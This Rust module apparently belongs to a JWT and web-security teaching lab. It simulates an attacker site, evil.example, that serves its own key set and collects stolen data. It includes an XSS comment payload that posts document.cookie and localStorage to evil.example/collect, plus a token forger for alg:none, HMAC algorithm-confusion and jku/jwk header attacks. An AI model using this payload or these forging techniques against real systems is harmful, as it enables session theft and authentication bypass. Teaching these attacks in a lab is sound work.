//! The attacker (issue 12): a second site, `evil.example`, in the simulated
//! network. It serves a key set of its own (for tokens whose `jku` points
//! there), a page that makes the victim's browser send cross-site requests
//! (CSRF), and an address where an injected script sends what it read (XSS).
//! What it gets is its loot; it can then send requests from its own machine
//! with what it stole.
//!
//! Its key pair is fixed (derived from a constant seed), so every run of an
//! exercise is identical and tests can sign with it.

use super::http::{Request, HOST, QUERY_TOKEN, SESSION_COOKIE, TOKEN_COOKIE};
use crate::jwt::decode;
use crate::jwt::parse_object;
pub use crate::jwt::set_header_members;
use crate::jwt::{
    base64url, sign_with, Algorithm, Curve, Json, JwtError, KeyEncoding, Part, PrivateKey,
    SigningKey,
};
use crate::jwt::{KeyEntry, KeySet};
use rand_core::CryptoRngCore;

/// The attacker's site.
pub const ATTACKER_HOST: &str = "evil.example";
/// Where the attacker publishes its own key set.
pub const ATTACKER_JWKS_URL: &str = "https://evil.example/.well-known/jwks.json";
/// The kid of the attacker's key in that set.
pub const ATTACKER_KID: &str = "evil-1";
/// Where an injected script sends what it read.
pub const COLLECT_PATH: &str = "/collect";
/// The algorithm of the attacker's key (the one the key-pair servers use).
pub const ATTACKER_ALG: Algorithm = Algorithm::ES256;
/// The comment with the script hidden in it, as a visitor typed it.
pub const INJECTED_COMMENT: &str = "Great article! <img src=x onerror=\"fetch('https://evil.example/collect',{method:'POST',body:JSON.stringify({cookie:document.cookie,storage:{...localStorage}})})\">";
/// The display name the attacker's cross-site form asks for.
pub const CSRF_NAME: &str = "Hacked by evil.example";

/// The seed of the attacker's P-256 key: any 32 bytes below the group order.
const SEED: [u8; 32] = *b"evil.example: the attacker key!!";

/// The attacker's private key (ES256).
pub fn attacker_key() -> Option<PrivateKey> {
    PrivateKey::from_seed(Curve::P256, &SEED)
}

/// The key set `evil.example` publishes at [`ATTACKER_JWKS_URL`].
pub fn attacker_key_set() -> KeySet {
    KeySet::of(
        attacker_key()
            .map(|k| KeyEntry::public(k.public(), ATTACKER_KID, ATTACKER_ALG))
            .into_iter()
            .collect(),
    )
}

/// The attacker's private key as a JWK, for the forge panel.
pub fn attacker_private_jwk() -> String {
    attacker_key()
        .and_then(|k| k.to_jwk(Some(ATTACKER_KID), Some(ATTACKER_ALG)))
        .map(|j| j.to_pretty())
        .unwrap_or_default()
}

/// The attacker's public key as a JWK, to embed in a token's `jwk` header.
pub fn attacker_public_jwk() -> Json {
    attacker_key()
        .map(|k| k.public().to_jwk(Some(ATTACKER_KID), Some(ATTACKER_ALG)))
        .unwrap_or(Json::Null)
}

/// The `jku` a token carries, when it carries one as a string.
pub fn jku_of(token: &str) -> Option<String> {
    decode(token)
        .header
        .json
        .as_ref()
        .and_then(|h| h.get("jku").and_then(Json::as_str).map(str::to_string))
}

/// The same ES256/384/512 token with its signature's twin, (r, n - s) for
/// (r, s): a different text that verifies just the same (ECDSA signatures
/// are malleable). `None` for a token that is not an ECDSA one.
pub fn twin_signature(token: &str) -> Option<String> {
    let token = token.trim();
    let (input, signature) = token.rsplit_once('.')?;
    let alg = decode(token).header.json.as_ref().and_then(|h| {
        h.get("alg")
            .and_then(Json::as_str)
            .and_then(Algorithm::from_name)
    })?;
    let bytes = base64url::decode(signature).ok()?;
    let twin = crate::jwt::ecdsa_twin(alg, &bytes)?;
    Some(format!("{input}.{}", base64url::encode(&twin)))
}

/// Split `https://host/path` into host and path; `None` for anything else.
pub fn split_url(url: &str) -> Option<(&str, &str)> {
    let rest = url.strip_prefix("https://")?;
    let (host, path) = match rest.find('/') {
        Some(i) => (rest.get(..i)?, rest.get(i..)?),
        None => (rest, "/"),
    };
    (!host.is_empty()).then_some((host, path))
}

/// What the attacker holds, and how it got each piece.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Stolen {
    /// A cookie name, or the `localStorage` key.
    pub name: String,
    pub value: String,
    /// Where it was read: `document.cookie`, `localStorage`, or a
    /// visitor's [`REFERER`] (the token-in-url weakness).
    pub from: &'static str,
}

/// Where a token read from a visitor's `Referer` header came from, in the loot.
pub const REFERER: &str = "Referer";

impl Stolen {
    /// The credential it is, if the servers would take it as one.
    pub fn credential(&self) -> Option<Credential> {
        match (self.from, self.name.as_str()) {
            ("document.cookie", SESSION_COOKIE) => Some(Credential::SessionId(self.value.clone())),
            ("document.cookie", TOKEN_COOKIE) | ("localStorage", _) | (REFERER, QUERY_TOKEN)
                if self.value.matches('.').count() == 2 =>
            {
                Some(Credential::Token(self.value.clone()))
            }
            _ => None,
        }
    }
}

/// A stolen credential, as the attacker sends it from its own machine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Credential {
    Token(String),
    SessionId(String),
}

impl Credential {
    /// `GET path` from the attacker's machine with this credential.
    pub fn request(&self, path: &str) -> Request {
        let request = Request::get(path)
            .with_header("Host", HOST)
            .with_header("User-Agent", "curl/8.5.0 (evil.example)");
        match self {
            Credential::Token(t) => request.with_header("Authorization", format!("Bearer {t}")),
            Credential::SessionId(sid) => {
                request.with_header("Cookie", format!("{SESSION_COOKIE}={sid}"))
            }
        }
    }
}

/// What an injected script read from the page (`document.cookie` and every
/// `localStorage` entry; a token in a closure variable it cannot name).
pub fn read_by_script(document_cookie: &str, local_storage: &[(String, String)]) -> Vec<Stolen> {
    let mut stolen: Vec<Stolen> = document_cookie
        .split("; ")
        .filter_map(|pair| pair.split_once('='))
        .map(|(name, value)| Stolen {
            name: name.to_string(),
            value: value.to_string(),
            from: "document.cookie",
        })
        .collect();
    stolen.extend(local_storage.iter().map(|(name, value)| Stolen {
        name: name.clone(),
        value: value.clone(),
        from: "localStorage",
    }));
    stolen
}

/// The attacker's signing tool. Unlike the app's strict signer it signs what
/// it is told: `alg` `None` makes an unsigned token (`"alg": "none"`, empty
/// signature); HMAC takes the key text's UTF-8 bytes as they are, even empty
/// or a public key's PEM (the algorithm-confusion attack); the others need a
/// private key (PEM or JWK). The header's `alg` is set to match.
pub fn forge(
    alg: Option<Algorithm>,
    header_text: &str,
    claims_text: &str,
    key_text: &str,
    rng: &mut impl CryptoRngCore,
) -> Result<String, JwtError> {
    let header = set_header_members(header_text, alg, &[])?;
    parse_object(claims_text, Part::Payload)?;
    let input = format!(
        "{}.{}",
        base64url::encode(header.as_bytes()),
        base64url::encode(claims_text.as_bytes())
    );
    match alg {
        None => Ok(format!("{input}.")),
        Some(alg) if alg.is_symmetric() => {
            let mac = alg.mac(key_text.as_bytes(), input.as_bytes());
            Ok(format!("{input}.{}", base64url::encode(&mac)))
        }
        Some(alg) => {
            let key =
                SigningKey::from_text(alg, key_text, KeyEncoding::Utf8).map_err(JwtError::Key)?;
            sign_with(alg, &header, claims_text, &key, rng).map(|s| s.token)
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
    use super::*;

    #[test]
    fn the_attacker_key_is_fixed_and_published_without_its_private_part() {
        let a = attacker_key().unwrap();
        let b = attacker_key().unwrap();
        assert_eq!(a.public().to_pem(), b.public().to_pem());
        let set = attacker_key_set().to_public_json().to_compact();
        assert!(set.contains(ATTACKER_KID));
        assert!(!set.contains("\"d\""));
        assert!(attacker_private_jwk().contains("\"d\""));
    }

    #[test]
    fn forge_signs_what_it_is_told() {
        let mut rng = rand_core::OsRng;
        let claims = r#"{"sub":"a","role":"admin"}"#;
        let none = forge(None, r#"{"typ":"JWT","alg":"HS256"}"#, claims, "", &mut rng).unwrap();
        assert!(none.ends_with('.'));
        let header = decode(&none).header.text.unwrap();
        assert_eq!(header, r#"{"alg":"none","typ":"JWT"}"#);
        // HMAC with an empty key and with a PEM's text, which the strict signer refuses.
        let empty = forge(
            Some(Algorithm::HS256),
            r#"{"alg":"HS256"}"#,
            claims,
            "",
            &mut rng,
        )
        .unwrap();
        let input = empty.rsplit_once('.').unwrap().0;
        let mac = Algorithm::HS256.mac(b"", input.as_bytes());
        assert!(empty.ends_with(&base64url::encode(&mac)));
        let pem = attacker_key().unwrap().public().to_pem();
        assert!(forge(Some(Algorithm::HS256), "{}", claims, &pem, &mut rng).is_ok());
        // ES256 with the attacker's private JWK; a public key cannot sign.
        let es = forge(
            Some(Algorithm::ES256),
            "{}",
            claims,
            &attacker_private_jwk(),
            &mut rng,
        )
        .unwrap();
        assert_eq!(es.split('.').count(), 3);
        assert!(forge(Some(Algorithm::ES256), "{}", claims, &pem, &mut rng).is_err());
        assert!(forge(None, "[1]", claims, "", &mut rng).is_err());
        assert!(forge(None, "{}", "not json", "", &mut rng).is_err());
    }

    #[test]
    fn header_members_are_set_in_place() {
        let h = set_header_members(
            r#"{"typ":"JWT","kid":"k1","alg":"ES256"}"#,
            Some(Algorithm::ES256),
            &[
                ("kid", Json::string("evil-1")),
                ("jku", Json::string(ATTACKER_JWKS_URL)),
            ],
        )
        .unwrap();
        assert_eq!(
            h,
            r#"{"alg":"ES256","typ":"JWT","kid":"evil-1","jku":"https://evil.example/.well-known/jwks.json"}"#
        );
    }

    #[test]
    fn urls_split_into_host_and_path() {
        assert_eq!(
            split_url(ATTACKER_JWKS_URL),
            Some(("evil.example", "/.well-known/jwks.json"))
        );
        assert_eq!(split_url("https://x"), Some(("x", "/")));
        assert_eq!(split_url("http://x/y"), None);
        assert_eq!(split_url("https:///y"), None);
    }

    #[test]
    fn a_script_reads_cookies_without_httponly_and_local_storage() {
        let read = read_by_script(
            "sid=abc; theme=dark",
            &[("token".to_string(), "a.b.c".to_string())],
        );
        assert_eq!(read.len(), 3);
        assert_eq!(
            read[0].credential(),
            Some(Credential::SessionId("abc".into()))
        );
        assert_eq!(read[1].credential(), None);
        assert_eq!(
            read[2].credential(),
            Some(Credential::Token("a.b.c".into()))
        );
        assert!(read_by_script("", &[]).is_empty());
    }
}
